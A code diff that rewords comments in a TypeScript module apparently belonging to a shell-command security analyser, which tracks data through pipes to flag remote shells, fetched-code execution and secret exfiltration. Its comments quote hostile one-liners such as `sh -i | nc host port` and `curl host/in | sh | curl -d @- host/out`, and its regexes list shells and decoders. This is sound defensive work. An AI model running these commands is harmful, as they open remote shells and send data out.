@@ -1,5 +1,5 @@
-// Where data comes from and where it ends: taints follow pipes, substitutions and here-documents from the command that prints them
-// to the command that executes or sends them. Source: ENGINE section 8.
+// Data flow: taints follow pipes, substitutions and here-documents from the command that prints data to the one that
+// executes or sends it. Source: ENGINE section 8.
 import { base_of_kind } from '#core/policy/effects/base.ts'
 import { type Collector, type Draft, set_field } from '#core/policy/effects/collector.ts'
 import type { Taint } from '#core/policy/effects/kind.ts'
@@ -15,7 +15,9 @@ import type { Analysis, Flow, SimpleCommand } from '#core/policy/parse/tree.ts'
 /** Longest chain of commands that data is followed through. */
 const MAX_HOPS = 16
 
-/** Adds taint to the effects that data reaches, and execution of fetched or decoded text as an effect of its own. */
+/**
+ * Adds taints to the effects that data reaches, and the execution of fetched or decoded text as an effect of its own.
+ */
 export function follow_data(analysis: Analysis, out: Collector): void {
   follow_loads(analysis, out)
   hide_values(analysis, out)
@@ -44,7 +46,9 @@ export function follow_data(analysis: Analysis, out: Collector): void {
 
 type OwnDrafts = (command: number) => readonly Draft[]
 
-/** The effects of each command, sorted when they are first asked for: a thousand commands cost a thousand steps, not a million. */
+/**
+ * The effects of each command, grouped on first use: a thousand commands cost a thousand steps instead of a million.
+ */
 function own_drafts(out: Collector): OwnDrafts {
   let by_command: Map<number, Draft[]> | null = null
   return (command) => {
@@ -65,7 +69,7 @@ function sort_by_command(drafts: readonly Draft[]): Map<number, Draft[]> {
   return sorted
 }
 
-/** `source .env && env`: the environment holds what was sourced. */
+/** `source .env && env`: the environment contains what was sourced. */
 function shows_sourced(analysis: Analysis, out: Collector): void {
   const sourced = out.drafts.find(
     ({ kind, scope, fields }) => kind === 'proc.exec' && scope === 'credential' && fields.lang === 'shell',
@@ -81,14 +85,16 @@ function shows_sourced(analysis: Analysis, out: Collector): void {
 
 const INTERACTIVE_SHELL = /^(?:sh|bash|zsh|dash|ksh|ash|fish|csh|tcsh)$/
 
-/** `sh -i | nc host port`: whoever is on the line sees what the shell prints, and the pipe back brings what it runs. */
+/**
+ * A remote shell: `sh -i | nc host port`. The peer sees what the shell prints, and the pipe back brings what it runs.
+ */
 function shell_on_line(
   analysis: Analysis,
   out: Collector,
   from: number,
   to: number,
   own: OwnDrafts,
-  /** `curl host/in | sh | curl -d @- host/out`: what it runs comes from the network, too. */
+  /** The shell also runs what comes from the network: `curl host/in | sh | curl -d @- host/out`. */
   told: boolean,
 ): void {
   const shell = analysis.commands[from]
@@ -105,7 +111,7 @@ function shell_on_line(
   out.drafts.push({ ...line, kind: 'net.shell', fields: { ...line.fields, mechanism: 'pipe' }, d: [d1, 0, d3] })
 }
 
-/** Programs that do what they read: statements of SQL, scripts of editors and debuggers, playbooks, lists of packages. */
+/** Programs that execute their input: SQL, scripts of editors and debuggers, playbooks, lists of packages. */
 const OBEYS_STDIN = /^(?:psql|mysql|mariadb|sqlite3|duckdb|sqlcmd|cqlsh|clickhouse-client|sqlplus|mongosh)$/
 const OBEYS_FILE = /^(?:psql|sqlcmd|cqlsh|sqlplus|ansible-playbook|vim?|nvim|ex|gdb|lldb|[gmn]?awk|g?sed|pip3?|make)$/
 const FILE_OPTION = /^(?:-[fxSrs]|--(?:file|command|source|requirement))$/
@@ -125,7 +131,7 @@ function sends_own(drafts: readonly Draft[]): void {
   if (drafts.some((draft) => draft.kind === 'net.send' && draft.absorbs)) absorb(drafts, ['secret'])
 }
 
-/** What flows into a command also lies in the files it writes. */
+/** What flows into a command is also in the files it writes. */
 function writes_own(drafts: readonly Draft[], taint: Taint): void {
   for (const draft of drafts) {
     if (draft.kind !== 'fs.write' || draft.taint.includes(taint)) continue
@@ -133,7 +139,7 @@ function writes_own(drafts: readonly Draft[], taint: Taint): void {
   }
 }
 
-/** Taints of every command's output: its own and those that come in through its input. */
+/** Taints of every command's output: its own, and those of its input. */
 function outputs(analysis: Analysis, out: Collector): Map<number, Taint[]> {
   const carried = new Map<number, Taint[]>()
   if (out.prints !== null) for (const [index, taints] of out.prints) carried.set(index, [...taints])
@@ -160,7 +166,7 @@ function outputs(analysis: Analysis, out: Collector): Map<number, Taint[]> {
   return carried
 }
 
-/** Programs that turn text into other text that hides what it is, and the arguments with which they do. */
+/** Programs that disguise text by encoding it, and the arguments with which they do. */
 const DECODERS: ReadonlyMap<string, (args: readonly string[]) => boolean> = new Map([
   ...['base64', 'gbase64', 'base32', 'basenc'].map((name) => [name, some(/^-[a-zA-Z]*[dD]|^--decode/)] as const),
   ['xxd', some(/^-[a-z]*r/)],
@@ -188,7 +194,7 @@ function decodes(command: SimpleCommand): boolean {
   return DECODERS.get(command.name)?.(command.args.map((word) => word.text)) === true
 }
 
-/** Programs whose output says nothing of what they read. */
+/** Programs whose output contains nothing of their input. */
 function swallows(command: SimpleCommand): boolean {
   return /^(?:wc|true|false|test|sha\d*sum|md5sum|cksum|shasum|b2sum|md5|sum)$/.test(command.name)
 }
@@ -214,7 +220,7 @@ function absorb(drafts: readonly Draft[], taints: readonly Taint[]): void {
   }
 }
 
-/** Text that reaches an interpreter runs: what it is follows from where it came from. */
+/** Text that reaches an interpreter runs; its origin decides what that means. */
 function executes(analysis: Analysis, out: Collector, from: number, to: number, taints: readonly Taint[]): void {
   const target = analysis.commands[to]
   const origin = analysis.commands[from]
@@ -252,7 +258,10 @@ function executes(analysis: Analysis, out: Collector, from: number, to: number, 
   })
 }
 
-/** `git clone url x && rm -rf x/.git`, `cp -r template x && rm -rf x/.git`: a history that came with this line goes with it. */
+/**
+ * A copied git history that is deleted again on this line: `git clone url x && rm -rf x/.git`, `cp -r template x && rm
+ * -rf x/.git`.
+ */
 function follow_copies(out: Collector): void {
   out.drafts.forEach((gone, at) => {
     if (gone.kind !== 'fs.delete' || gone.scope !== 'vcs-meta' || gone.target === null) return
@@ -275,7 +284,7 @@ function follow_copies(out: Collector): void {
 /** Moves of one command line that are remembered. */
 const MAX_MOVES = 32
 
-/** `mv src build && rm -rf build`: what was moved under a name that may be deleted goes with it. */
+/** What was moved to a name is deleted with it: `mv src build && rm -rf build`. */
 function follow_moves(out: Collector): void {
   if (!out.drafts.some((draft) => draft.kind === 'fs.move')) return
   const moved: { from: Draft; to: string }[] = []
@@ -314,7 +323,10 @@ function looks_like_folder(path: string): boolean {
   return !base_of(path).includes('.')
 }
 
-/** What one command line moves, copies and makes before it deletes it, and what it brings from elsewhere before it runs it (ENGINE 8). */
+/**
+ * Follows files within one command line: what it moves, copies and makes before deleting it, and what it fetches before
+ * running it (ENGINE 8).
+ */
 export function follow_files(out: Collector, analysis: Analysis): void {
   if (out.drafts.some(({ kind }) => kind === 'fs.delete')) {
     follow_moves(out)
